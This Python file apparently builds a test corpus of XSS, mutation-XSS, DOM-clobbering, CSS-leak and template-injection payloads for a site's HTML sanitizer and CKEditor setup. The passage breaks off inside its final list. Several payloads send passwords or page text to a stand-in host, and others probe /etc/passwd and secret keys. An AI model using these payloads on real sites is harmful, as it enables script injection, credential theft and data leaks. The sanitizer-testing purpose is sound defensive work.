"""
Texts that try to run a script, to send a reader elsewhere or to break out of where they are printed.

Most are made by combining what is known to matter: an element, a handler, a way to write a tag badly, a way to hide a
scheme, a parser that one of two readers is in. Each that comes to life calls alert() or asks EVIL for something, which is
what a browser test looks for.
"""

# ruff: noqa: E501 -- payloads are data, and some are letters that look like others

from collections.abc import Callable, Iterator
from itertools import cycle, product

EVIL = "evil.example"
FIRE = "alert(1)"
IMG = f"<img src=x onerror={FIRE}>"

Payloads = Iterator[str]
CATEGORIES: dict[str, Callable[[], Payloads]] = {}


def category(make: Callable[[], Payloads]) -> Callable[[], Payloads]:
    CATEGORIES[make.__name__] = make
    return make


def corpus() -> list[str]:
    """All of them, each once, in the order of their categories."""
    return list(dict.fromkeys(payload for make in CATEGORIES.values() for payload in make()))


HANDLERS = """
onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur
oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange
oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart
ondrop ondurationchange onemptied onend onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange
ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata
onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove
onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay
onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover
onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend
onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart
onslotchange onstalled onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove
ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload
onvolumechange onwaiting onwebkitanimationend onwebkitfullscreenchange onwheel
""".split()

ELEMENTS = """
a abbr acronym address animate applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote
body br button canvas caption center circle cite code col colgroup command content custom-tag data datalist dd del
desc details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer foreignobject form frame
frameset g h1 h2 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link
listing main map mark marquee math menu menuitem meta meter mi multicol nav nextid nobr noembed noframes noscript
object ol optgroup option output p param path picture plaintext portal pre progress q rb rect rp rt rtc ruby s samp
script search section select selectedcontent set shadow slot small source spacer span strike strong style sub summary
sup svg table tbody td template text textarea tfoot th thead time title tr track tt u ul use var video wbr xmp xss
""".split()

# What may stand between a tag's name and its attributes, by the specification or by what a parser forgives.
GAPS = [" ", "/", "\t", "\n", "\r\n", "\x0c", " / ", "//", " x=1 ", ' x="1"', " x='1'", " x", '/"/', " =", '"" ']
QUOTES = ["{}", '"{}"', "'{}'", "`{}`", ' \n"{}"', "{}//", "'{};'"]


@category
def every_handler() -> Payloads:
    gaps, quotes, elements = cycle(GAPS), cycle(QUOTES), cycle(["p", "img", "a", "svg", "details open", "td", "figure"])
    for name in HANDLERS:
        yield f"<{next(elements)}{next(gaps)}{name}={next(quotes).format(FIRE)}>x"
        yield f'<p title="{name}" {name.upper()} = "{FIRE}">x</p>'


@category
def every_element() -> Payloads:
    for name in ELEMENTS:
        yield f"<{name} src=x onerror={FIRE} onload={FIRE}>x</{name}>"
        yield f"<{name} autofocus tabindex=1 onfocus={FIRE} style=animation-name:x onanimationstart={FIRE}>{IMG}</{name}>"
        yield f"<{name}>{IMG}"


SCHEMES = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:MsgBox(1)"]
OTHER_SCHEMES = """
livescript:alert(1) mocha:alert(1) x-javascript:alert(1) jar:javascript:alert(1)! feed:javascript:alert(1)
view-source:javascript:alert(1) blob:https://evil.example/1 filesystem:https://evil.example/1 file:///etc/passwd
mhtml:http://evil.example/ ms-its:x intent://evil.example#Intent;end about:blank about:srcdoc ws://evil.example
chrome://settings resource://x res://x ftp://evil.example/x javascript:https://evil.example/%0aalert(1)
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:,x data:application/xhtml+xml,<x/> //evil.example /\\evil.example \\\\evil.example /\t/evil.example
""".split()
URL_ATTRIBUTES = [
    *("a href", "area href", "link rel=stylesheet href", "link rel=import href", "base href", "a xlink:href"),
    *("svg><a href", "svg><a xlink:href", "svg><use href", "svg><image href", "svg><script href", "math href"),
    *("math><mi xlink:href", "svg><feimage href", "form action", "form><button formaction", "isindex action"),
    *("form><input type=submit formaction", "form><input type=image src", "button form=f formaction", "input src"),
    *("img src", "img srcset", "img lowsrc", "img dynsrc", "img longdesc", "img usemap", "picture><source srcset"),
    *(
        "iframe src",
        "iframe srcdoc",
        "frameset><frame src",
        "embed src",
        "embed code",
        "object data",
        "object codebase",
    ),
    *("object classid", "object archive", "applet code", "applet codebase", "param name=movie value", "bgsound src"),
    *(
        "video src",
        "video poster",
        "audio src",
        "video><source src",
        "video><track src",
        "script src",
        "body background",
    ),
    *("table background", "td background", "html manifest", "a ping", "a attributionsrc", "img attributionsrc"),
    *("blockquote cite", "q cite", "del cite", "ins cite", "head profile", "command icon", "portal src", "xml src"),
    *("link rel=prefetch href", "link rel=icon href", "svg><animate attributename=href values", "svg><set to"),
    *("svg><animate attributename=href to", "svg><animate attributename=href from", "fencedframe src", "layer src"),
    *("aside data-article", "figure data-photo", "figure data-embed", "div data-embed-url", "p title", "time datetime"),
]


def hidden(address: str) -> Payloads:
    """`address` as attributes hold it where somebody wants it overlooked."""
    scheme, rest = address.split(":", 1)
    half = len(scheme) // 2
    yield address
    yield scheme.upper() + ":" + rest
    yield "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(scheme)) + ":" + rest
    yield "".join(f"&#{ord(letter)};" for letter in address)
    yield "".join(f"&#x{ord(letter):X};" for letter in address)
    yield "".join(f"&#{ord(letter):07d}" for letter in address)
    yield "".join(f"&#x{ord(letter):06x}" for letter in address)
    for inside in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "&#9;", "&#10;", "&#xD;", "&#0;", "\x00", "\x0b", "\x01"):
        yield f"{scheme[:half]}{inside}{scheme[half:]}:{rest}"
        yield f"{scheme}{inside}:{rest}"
    for before in (
        " ",
        "\t\n ",
        "\x01",
        "\x1f",
        "&#1;",
        "&#32;",
        "&nbsp;",
        "\xa0",
        "\ufeff",
        "\u200b",
        "\u2028",
        "\u3000",
    ):
        yield f"{before}{address}"
    for inside in (
        "\u00ad",
        "\u200b",
        "\u200d",
        "\u2060",
        "\u2028",
        "\u2029",
        "&shy;",
        "&zwj;",
        "\\",
        "/",
        "%0a",
        "%00",
    ):
        yield f"{scheme[:half]}{inside}{scheme[half:]}:{rest}"
    for colon in ("&colon;", "&#58;", "&#x3a;", "%3A", "\uff1a", "\ua789", "\u02d0", "&amp;colon;", "&colon", "\u2236"):
        yield f"{scheme}{colon}{rest}"
    yield f"&#x{ord(scheme[0]):x}" + scheme[1:] + ":" + rest
    yield f"&amp;#{ord(scheme[0])};{scheme[1:]}:{rest}"
    yield f"%{ord(scheme[0]):02x}{scheme[1:]}:{rest}"
    yield "".join(chr(0xFEE0 + ord(letter)) for letter in scheme) + ":" + rest
    yield f"\\u{ord(scheme[0]):04x}{scheme[1:]}:{rest}"
    yield f"https:{address}"
    yield f"//{address}"
    yield f"#{address}"
    yield f"?{address}"
    yield f"mailto:x@example.org?body={address}"


@category
def schemes_in_links() -> Payloads:
    quotes = cycle(['"{}"', "'{}'"])
    for scheme in SCHEMES:
        for written in hidden(scheme):
            quote = '"{}"' if "'" in written else next(quotes)
            yield f"<a href={quote.format(written)}>x</a>"
    for address in OTHER_SCHEMES:
        yield f'<a href="{address}">x</a>'
        yield f"<a href={address}>x</a>"
    yield f"<a href=javascript:{FIRE}>x"
    yield f"<a href=`javascript:{FIRE}`>x</a>"
    yield f"<a href='/' href='javascript:{FIRE}'>x</a>"
    yield f"<a href='javascript:{FIRE}' href='/'>x</a>"
    yield f"<a\nhref\n=\n'javascript:{FIRE}'>x</a>"
    yield f"<A HREF=JAVASCRIPT:{FIRE}>x</A>"


@category
def schemes_everywhere() -> Payloads:
    for attribute, address in product(URL_ATTRIBUTES, SCHEMES):
        yield f'<{attribute}="{address}">x'
    for attribute in URL_ATTRIBUTES:
        yield f"<{attribute}=//{EVIL}/x>x"
        yield f"<{attribute}='&#106;avascript:{FIRE}'>x"


@category
def elsewhere() -> Payloads:
    """What asks another site, or sends the reader or what they type to it."""
    yield f'<meta http-equiv=refresh content="0;url=//{EVIL}/">'
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{FIRE}">'
    yield f"<meta http-equiv=refresh content='0;data:text/html,<script>{FIRE}</script>'>"
    yield f'<meta http-equiv=set-cookie content="a=1"><meta name=referrer content=unsafe-url><base href=//{EVIL}/>'
    yield '<meta http-equiv="Content-Security-Policy" content="script-src *">'
    yield f'<meta charset="utf-7">+ADw-script+AD4-{FIRE}+ADw-/script+AD4-'
    yield f"<base href=//{EVIL}/><a href=x>x</a>"
    yield f"<base target=_blank><base href='javascript:{FIRE}//'>"
    yield f"<link rel=stylesheet href=//{EVIL}/x.css><link rel=preload as=image href=//{EVIL}/x>"
    yield f"<img src=x srcset='//{EVIL}/1 1x, //{EVIL}/2 2x'><img srcset=//{EVIL}/x>"
    yield f"<picture><source srcset='//{EVIL}/x 1w'><img src=x></picture>"
    yield f"<form action=//{EVIL}/ id=f><input name=password type=password autofocus><button>Sign in</button></form>"
    yield f"<button form=story_form formaction=//{EVIL}/>x</button><input form=story_form name=csrfmiddlewaretoken>"
    yield f"<iframe srcdoc='<script>{FIRE}</script>'></iframe><iframe srcdoc=&lt;script&gt;{FIRE}&lt;/script&gt;>"
    yield f"<iframe src='data:text/html,<script>{FIRE}</script>'></iframe><iframe src=//{EVIL}/ sandbox=allow-scripts>"
    yield f"<object data=//{EVIL}/x.swf type=application/x-shockwave-flash><param name=allowScriptAccess value=always>"
    yield f"<embed src=//{EVIL}/x.svg type=image/svg+xml allowscriptaccess=always><video poster=//{EVIL}/x controls>"
    yield f"<a href=//{EVIL}/ target=_blank rel=opener ping=//{EVIL}/p>x</a><a href=/ download=x.exe>x</a>"
    yield f"<img src='//{EVIL}/?"  # dangling: takes along what comes after it
    yield f'<a href="https://{EVIL}/?'
    yield f"<textarea><form action=//{EVIL}/>"
    yield f'<details open ontoggle={FIRE}><summary style="position:fixed;inset:0">x</summary></details>'
    yield f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={FIRE}>x</p>"
    yield f"<p is=x-y slot=z part=p contenteditable draggable=true hidden nonce=x inert accesskey=x onclick={FIRE}>x</p>"
    yield f"<template shadowrootmode=open>{IMG}</template><template shadowroot=open><slot></slot>{IMG}</template>"
    yield f"<script type=module src=//{EVIL}/x></script><script type=importmap>{{}}</script><script nomodule>{FIRE}</script>"
    yield f'<script type="speculationrules">{{"prefetch":[{{"urls":["//{EVIL}/"]}}]}}</script>'
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{FIRE}>x</maction></math>"
    yield f"<?xml-stylesheet href='//{EVIL}/x.xsl'?><xml id=i><x>{IMG}</x></xml><span datasrc=#i datafld=x>"
    yield f"<svg><a><animate attributeName=href values=javascript:{FIRE} /><text y=20>x</text></a></svg>"
    yield f"<svg><set attributeName=onmouseover to={FIRE}><discard onbegin={FIRE}></svg>"
    yield f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={FIRE}></svg>#x">'
    yield f"<svg><foreignObject><iframe srcdoc='{IMG}'></foreignObject></svg>"


@category
def malformed() -> Payloads:
    yield from (
        *(f"<script>{FIRE}</script>", f"<script>{FIRE}", f"<ScRiPt>{FIRE}</sCrIpT >", f"<script\n>{FIRE}</script\n>"),
        *(f"<script/x>{FIRE}</script>", f"<script{chr(12)}>{FIRE}</script>", f"<scr<script>ipt>{FIRE}</scr</script>ipt>"),
        *(f"<<script>{FIRE}//<</script>", f"<script <b>>{FIRE}</script>", f"<script x='>'>{FIRE}</script x>"),
        *(f"<script src=//{EVIL}/x.js", f"<script>{FIRE}</script", f"</script><script>{FIRE}</script>"),
        *(f"<script>/*<!--*/{FIRE}//--></script>", f"<script><!--<script>-->{FIRE}</script>", f"< script>{FIRE}</ script>"),
        *(f"<img src=x onerror={FIRE}", f'<img """><script>{FIRE}</script>">', f"<img src=x/onerror={FIRE}>"),
        *(f"<img/src=x/onerror={FIRE}/>", f"<img src='x'onerror={FIRE}>", f"<img src=x onerror\n=\n{FIRE}>"),
        *("<img src=x onerror=&#97;lert(1)>", f"<img src=x o&#110;error={FIRE}>", f"<img src=x on error={FIRE}>"),
        *(f"<img src=x:x onerror='{FIRE}'//", f"<img src=`x`onerror={FIRE}>", f'<p title="`><img src=x onerror={FIRE}>`">'),
        *(f"<p title='\"><img src=x onerror={FIRE}>'>", f"<p title=\"'><img src=x onerror={FIRE}>\">x", f"<p title=><img src=x onerror={FIRE}>"),
        *(f"<p title=`><img src=x onerror={FIRE}>`>", f"<p \"><img src=x onerror={FIRE}>", f"<p '><img src=x onerror={FIRE}>"),
        *(f"<p/title='/onclick={FIRE}'/onclick={FIRE}>x", f"<p =onclick={FIRE}>x", f"<p x==onclick={FIRE}>x", f"<p =>{IMG}"),
        *(f"<p <={IMG}>", f"<p ={IMG}>x", f"<p a<b{IMG}>x", f"<p title=a\"onclick={FIRE}>x", f"<p title=a'onclick={FIRE} x='>"),
        *(f"<a href='/x\"onclick={FIRE} y=\"'>x</a>", f"<a title='&quot; onclick={FIRE} x=&quot;'>x</a>"),
        *(f'<a title="&quot;&gt;{IMG}">x</a>', f"<a title='&#34;><img src=x onerror={FIRE}>'>x</a>", f"<a title='&#39;&#62;{IMG}'>"),
        *(f"<svg/onload={FIRE}>", f"<svg onload={FIRE}//", f"<svg><script>{FIRE}", "<svg><script>&#97;lert(1)</script>"),
        *(f"<svg><script x:href=x xlink:href=data:,{FIRE} />", f"<svg:script>{FIRE}</svg:script>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{FIRE}</x:script>"),
        *(f"<isindex type=image src=1 onerror={FIRE}>", f"<image src=x onerror={FIRE}>", f"<image/src/onerror={FIRE}>"),
        *(f"<plaintext>{IMG}", f"<plaintext/><script>{FIRE}</script>", f"<listing>&lt;img src=x onerror={FIRE}&gt;</listing>"),
        *(f"</p onclick={FIRE}>x", f"</br onclick={FIRE}>", f"</{IMG}>", f"</ {IMG}>", f"</\n{IMG}", f"<//{IMG}>"),
        *(f"<%{IMG}%>", "<%= alert(1) %>", f"<?{IMG}?>", f"<?php {IMG}", f"<?='><img src=x onerror={FIRE}>'?>", f"<!{IMG}>"),
        *(f"<table><tr><td><table background=javascript:{FIRE}>", f"<table>{IMG}<tr>{IMG}<td>", f"<ul>{IMG}<li><ol>{IMG}"),
        *(f"<b><p></b>{IMG}<i></p></i>", f"<a><b><a><b>{IMG}", f"<select><option>{IMG}</select>", f"<select><style></select>{IMG}</style>"),
        *(f"<frameset onload={FIRE}>", f"<body onload={FIRE}>", f"<html onclick={FIRE}>", f"<body><frameset><frame src=javascript:{FIRE}>"),
        *(f"<1{IMG}>", f"<-{IMG}>", f"<\x0b{IMG}", f"<{chr(0xA0)}img src=x onerror={FIRE}>", f"<\u200bimg src=x onerror={FIRE}>"),
        *(f"&lt;{IMG[1:]}", f"&lt;script&gt;{FIRE}&lt;/script&gt;", f"&LT;script&GT;{FIRE}", f"&#60script&#62{FIRE}", f"\\x3cimg src=x onerror={FIRE}\\x3e"),
    )  # fmt: skip


@category
def comments_left_open() -> Payloads:
    for opened, closed in [
        *(("<!--", "-->"), ("<!--", "--!>"), ("<!-->", "-->"), ("<!--->", "-->"), ("<!-- --!>", ""), ("<!---->", "")),
        *(("<!", ">"), ("<!DOCTYPE x [", "]>"), ("<![CDATA[", "]]>"), ("<![cdata[", "]]>"), ("<![CDATA[ ]]>", "")),
        *(("<svg><![CDATA[", "]]></svg>"), ("<math><![CDATA[><", "]]></math>"), ("<!--[if gte IE 4]>", "<![endif]-->")),
        *(("<![if !vml]>", "<![endif]>"), ("<?", "?>"), ("<?xml version='1.0'?>", ""), ("<!ENTITY x '", "'>")),
        *(
            ("<!--#include virtual='/etc/passwd'-->", ""),
            ("<comment>", "</comment>"),
            ("<!----!>", ""),
            ("<!--x--!", ">"),
        ),
    ]:
        yield f"{opened}{IMG}{closed}"
        yield f"{opened}{IMG}"
        yield f"{opened}<p title='{closed}{IMG}'>x"
        yield f"<p>{opened}</p>{closed}{IMG}"


@category
def read_in_two_ways() -> Payloads:
    """mXSS: text for one parser, a tag for the next, by what an element makes of its content."""
    holders = (
        "style title textarea xmp noscript noembed noframes iframe template script plaintext select option".split()
    )
    for foreign, holder in product(("svg", "math", "svg><desc", "svg><foreignobject", "math><mtext"), holders):
        root = foreign.split(">")[0]
        yield f"<{foreign}><{holder}><p title='</{holder}></{root}>{IMG}'>"
        yield f"<{foreign}></p><{holder}><a title='</{holder}>{IMG}'>"
    for holder in holders:
        yield f"<{holder}><p title='</{holder}>{IMG}'></{holder}>"
        yield f"<{holder}></{holder}>{IMG}<{holder}>"
        yield f"<{holder}>{IMG}</{holder}>"
        yield f"<{holder}><!--</{holder}>{IMG}-->"
        yield f"<{holder}/><p>{IMG}"
        yield f"<p title='<{holder}>'>{IMG}</p><p title='</{holder}>'>x</p>"
    for text in ("mi", "mo", "mn", "ms", "mtext", "annotation-xml encoding=text/html"):
        name = text.split()[0]
        yield f"<math><{text}><table><mglyph><style><!--</style><p title='--&gt;{IMG}'></{name}>"
        yield f"<math><{text}><mglyph><svg><{name}><textarea><path id='</textarea>{IMG}'>"
        yield f"<form><math><{text}></form><form><mglyph><style></math>{IMG}"
    yield f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{IMG}'>"
    yield f"<svg></p><style><g title='</style>{IMG}'>"
    yield f"<svg><title><style><!--</style>{IMG}--></title></svg>"
    yield f"<svg><p><style><!--</style>{IMG}-->"
    yield f"<svg><style>&lt;img src=x onerror={FIRE}&gt;</style></svg>"
    yield f"<math><style>&lt;img src=x onerror={FIRE}&gt;</style></math>"
    yield f"<table><svg><caption><style></table>{IMG}"
    yield f"<p><svg><p><style><p title='</style>{IMG}'>"
    yield f"<noscript><p title='</noscript>{IMG}'></noscript>"
    yield f"<noscript><style></noscript>{IMG}</style>"
    yield f"<p id='<b>'><noscript><p title='</noscript>{IMG}'>"
    yield f"<listing>&#10;&#10;{IMG}</listing><pre>\n\n{IMG}</pre>"
    yield f"<blockquote cite='&quot;&gt;{IMG}'>x</blockquote><p title='&amp;quot;&amp;gt;{IMG}'>"
    yield f'<p title="``onmouseover={FIRE}">x</p><p title="` onclick={FIRE} ">x</p>'
    yield f"<p title='x --><img src=x onerror={FIRE}><!--'>x</p>"
    yield f"<p title=']]>{IMG}<![CDATA['>x</p><p>]]&gt;{IMG}</p>"
    yield f"<p title='</p></td></table></div></textarea></title></script></style>{IMG}'>x</p>"
    yield f"<table><a title='</table>{IMG}'>x</a></table><table><td><a href=#>{IMG}"
    yield "<b>" * 60 + f"<svg><style><p title='</style>{IMG}'>"
    yield "<svg><g>" * 40 + f"<style><p title='</style>{IMG}'>"


@category
def encodings() -> Payloads:
    yield f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-"
    yield f"+ADwAcwBjAHIAaQBwAHQAPg-{FIRE}+ADwALwBzAGMAcgBpAHAAdAA+-"
    yield f"\xc0\xbcscript\xc0\xbe{FIRE}\xc0\xbc/script\xc0\xbe"
    yield f"\xe0\x80\xbcimg src=x onerror={FIRE}\xe0\x80\xbe"
    yield f"%3Cscript%3E{FIRE}%3C/script%3E"
    yield f"%253Cscript%253E{FIRE}%253C/script%253E"
    yield f"%u003Cscript%u003E{FIRE}"
    yield f"%C0%BCscript%C0%BE{FIRE}"
    yield f"\\u003cimg src=x onerror={FIRE}\\u003e"
    yield f"\x1b$B<img src=x onerror={FIRE}>\x1b(B"
    yield f"\x1b(J<p title='\\'><img src=x onerror={FIRE}>'>"
    for left, right in [
        *("＜＞", "‹›", "〈〉", "﹤﹥", "❮❯", "≺≻", "⟨⟩", "˂˃"),
        ("<\u0338", ">\u0338"),
        ("\u226e", "\u226f"),
    ]:
        yield f"{left}img src=x onerror={FIRE}{right}"
    amp = "&lt;img src=x onerror=alert(1)&gt;"
    for _time in range(4):
        yield amp
        yield f"<p title='{amp}'>{amp}</p>"
        yield f'<p title="{amp}"><code>{amp}</code></p>'
        amp = amp.replace("&", "&amp;")
    yield f"<\u0130mg src=x onerror={FIRE}><scr\u0130pt>{FIRE}</scr\u0130pt>"
    yield f"<\u017fcript>{FIRE}</\u017fcript><\uff53\uff43\uff52\uff49\uff50\uff54>{FIRE}"
    yield f"<a href='\u017f'><IMG SRC=x ONERR\u00d6R={FIRE}>"
    yield f"<p \u212aonclick={FIRE} on\u017fubmit={FIRE} on\u200bclick={FIRE}>x</p>"
    for separator in "\u2028\u2029\u0085\u00a0\u1680\u180e\u2003\u202f\u205f\u3000\ufeff\u200b\u200e\u202e\u2066\u00ad":
        yield f"<img{separator}src=x{separator}onerror={FIRE}>"
        yield f"<p{separator}onclick={FIRE}>x{separator}y</p>"
        yield f"words{separator}<p title='a{separator}onclick={FIRE}'>words</p>"
    for control in "\x00\x01\x08\x0b\x0c\x1b\x7f\x80\x9f":
        yield f"<scr{control}ipt>{FIRE}</scr{control}ipt>"
        yield f"<img src=x on{control}error={FIRE}>"
        yield f"<{control}script>{FIRE}</script>"
    yield f"<img src=x onerror={FIRE}\ud800>"
    yield f"<p>\ufffe\uffff{IMG}</p>"


@category
def styles() -> Payloads:
    for css in [
        *("background:url(javascript:alert(1))", "width:expression(alert(1))", "x:expr/**/ession(alert(1))"),
        *("behavior:url(#default#time2)", "-moz-binding:url(//evil.example/x.xml#x)", "-o-link:'javascript:alert(1)'"),
        *(
            f"background:url(//{EVIL}/x)",
            f"@import '//{EVIL}/x.css'",
            f"list-style:url(//{EVIL}/x)",
            f"content:url(//{EVIL})",
        ),
        *("position:fixed;inset:0;z-index:9", "\\77idth:\\65xpression(alert(1))", "wi\\\ndth:ex\\\npression(alert(1))"),
        *(
            "animation-name:x",
            "font-family:'&quot;><img src=x onerror=alert(1)>'",
            "}</style><script>alert(1)</script>",
        ),
        f"--x:url(//{EVIL}/x);background:var(--x)",
    ]:
        quote = '"' if "'" in css else "'"
        yield f"<p style={quote}{css}{quote}>x</p>"
        yield f"<style>p{{{css}}}</style><p>x</p>"
    yield f"<style>@import '//{EVIL}/x';</style><style>@font-face{{font-family:x;src:url(//{EVIL}/x)}}</style>"
    yield f"<style>input[value^=a]{{background:url(//{EVIL}/a)}}</style><style></style >{IMG}"
    yield f"<style>*{{x:'</style>{IMG}'}}</style><p class='lede\"onclick={FIRE}'>x</p>"
    yield "<p class='header desk-sheet card nr-related cke_widget_wrapper'>x</p><aside class=desk-strip>x</aside>"


@category
def clobbering() -> Payloads:
    """Names that a script may take for its own objects."""
    for name in """
        document window location cookie body head forms images CKEDITOR CKEDITOR_BASEPATH django alert content main
        story_form searchbar csrfmiddlewaretoken corrections trail related footer __proto__ constructor toString
        currentScript getElementById defaultView domain baseURI scripts all self top parent opener name status
    """.split():
        yield f"<a id={name} name={name} href=//{EVIL}/>x</a>"
        yield f"<form id={name} name={name}><input id=action name=action value=//{EVIL}/></form>"
        yield f"<p id={name}>x</p><a id={name}></a><a id={name} name=config href='clobbered:{FIRE}'>y</a>"
    yield "<img name=getElementById><img name=querySelector><form name=body><input name=attributes><input name=nodeName>"
    yield "<p id='t-x y'>x</p><p id='t-\"onclick=alert(1)'>x</p><p id=''>x</p><p id=t->x</p><p id='x' id='t-y'>x</p>"
    yield "<input name=attributes><p data-user-id=1 data-select2-id=1 data-action=x data-confirm=x data-beat=x>x</p>"
    yield "<p data-unsaved data-save data-list data-more data-share data-header aria-hidden=true role=alert>x</p>"


@category
def templates_injected() -> Payloads:
    for words in [
        *("{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load log %}{% get_admin_log 9 as x %}"),
        *("{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%=7*7%>"),
        *("${{7*7}}", "[[${7*7}]]", "@(1+2)", "*{7*7}", "%(headline)s %s %d {0} {headline} {0.__class__}", "{}{}", "%%", "\\", "\\1 \\g<0> $1 $&"),
        *("{#", "{% endblock %}", "{% comment %}", "{% autoescape off %}", "{{ x|safe }}", "__proto__[x]=1", "'; DROP TABLE x; --", "$(alert(1))"),
    ]:  # fmt: skip
        yield words
        yield f"<p title='{words.replace(chr(39), '&#39;')}'>{words}{IMG}</p>"
    yield f"<p ng-app ng-csp ng-click=$event.view.alert(1) v-html='`{FIRE}`' x-data x-init={FIRE} @click={FIRE} :x=1>x</p>"
    yield f"<p hx-get=//{EVIL} hx-on::load={FIRE} data-hx-on:click={FIRE} _='on click {FIRE}' data-bind=x>x</p>"


@category
def the_editors_own() -> Payloads:
    """What CKEditor 4 reads as its own marks, and turns back into what it once protected."""
    protected = "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
    for mark in (
        "data-cke-pa-onclick",
        "data-cke-saved-href",
        "data-cke-saved-src",
        "data-cke-saved-name",
        "data-cke-pa-onload",
        "data-cke-realelement",
        "data-cke-real-element-type",
        "data-cke-expando",
        "data-cke-widget-data",
        "data-cke-widget-upcasted",
        "data-cke-filter",
        "data-cke-temp",
        "data-cke-bookmark",
        "data-cke-eol",
        "data-cke-processor",
        "data-cke-real-node-type",
        "data-cke-survive",
        "data-cke-hidden-sel",
        "data-cke-magic-line",
        "data-cke-linkfix",
        "data-cke-title",
        "data-cke-style",
        "data-widget",
    ):
        yield f'<p {mark}="{FIRE}">x</p>'
        yield f'<a {mark}="javascript:{FIRE}" href="/">x</a>'
        yield f'<figure class="nr-pull" {mark}="{protected}"><blockquote><p {mark}="{protected}">x</p></blockquote></figure>'
        yield f'<img {mark}="{protected}" src=x class=cke_anchor>'
    for comment in (
        f"<!--{{cke_protected}}{protected}-->",
        f"<!--{{cke_protected}}{{C}}%3C!--x--%3E{protected}-->",
        f"<!--{{cke_temp}}0-->{IMG}",
        f"<!--{{cke_bookmark}}1-->{IMG}",
        f"{{cke_protected}}{protected}",
        f"{{cke_protected_1}}{protected}",
        f"<cke:script>{FIRE}</cke:script><cke:object><cke:param name=x onerror={FIRE}></cke:object>",
        f"<cke:encoded>{protected}</cke:encoded><cke:img src=x onerror={FIRE}>",
        f"<cke:body onload={FIRE}><cke:style>@import '//{EVIL}/'</cke:style>",
        f"<!--[CDATA[<img src=x onerror={FIRE}-->",
        f"<textarea><!--{{cke_protected}}{protected}--></textarea>",
        f"<p class='cke_widget_element cke_editable' contenteditable=true>{IMG}</p>",
        f"<section data-cke-x='1'{IMG}></section>",
        f"<style>/*<![CDATA[*/</style>{IMG}/*]]>*/",
        f"<title>{{cke_protected}}</title><title><a href='</title>{IMG}'>",
        "<span data-cke-marker=1>&nbsp;</span>__cke_x_ cke_protected cke_pasted",
    ):
        yield comment
        yield f"<p>{comment}</p>"
        attribute = comment.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        yield f'<abbr title="{attribute}">{attribute}</abbr>'
        yield f'<a href="/{attribute}">{attribute}</a>'


@category
def harmless_looking() -> Payloads:
    """In what the gate keeps: every tag of its own with what no tag may have."""
    from core.html import ALLOWED

    for tag in sorted(set(ALLOWED) - {"*"}):
        for name in sorted(ALLOWED[tag] | ALLOWED["*"]):
            yield f'<{tag} {name}="&quot; onclick={FIRE} x=&quot;">x</{tag}>'
            yield f"<{tag} {name}='javascript:{FIRE}'>x</{tag}>"
            yield f"<{tag} {name}=x\"><img src=x onerror={FIRE}>'>x</{tag}>"
        yield f"<{tag} onclick={FIRE} style=color:red src=//{EVIL} href=javascript:{FIRE} action=x name=x {name}=1>x</{tag}>"


# What breaks out of a place that holds plain words: an element's text, a quoted or bare attribute, <title>, <textarea>,
# a script, a comment, a CDATA section, a feed, JSON.
BREAKERS = [
    IMG,
    f"<svg onload={FIRE}>",
    f'"><img src=x onerror={FIRE}>',
    f"'><img src=x onerror={FIRE}>",
    f"' onmouseover='{FIRE}' autofocus onfocus='{FIRE}' x='",
    f'" onmouseover="{FIRE}" autofocus onfocus="{FIRE}" x="',
    f"` onmouseover=`{FIRE}` x=` autofocus onfocus={FIRE} x",
    f"</title><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"</p></h1></td></option></select></a></button>{IMG}",
    f"--><script>{FIRE}</script><!--",
    f"--!>{IMG}",
    f"]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{FIRE}</x:script><![CDATA[",
    f"<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='{FIRE}'/>",
    f"&lt;img src=x onerror={FIRE}&gt;",
    f"&amp;lt;img src=x onerror={FIRE}&amp;gt;",
    f"&#60;script&#62;{FIRE}&#60;/script&#62;",
    f'\\";{FIRE}//',
    f"\\';{FIRE}//",
    f"';{FIRE};'",
    f"${{{FIRE}}}`+{FIRE}+`",
    f"javascript:{FIRE}//",
    f'https://{EVIL}/"onclick="{FIRE}',
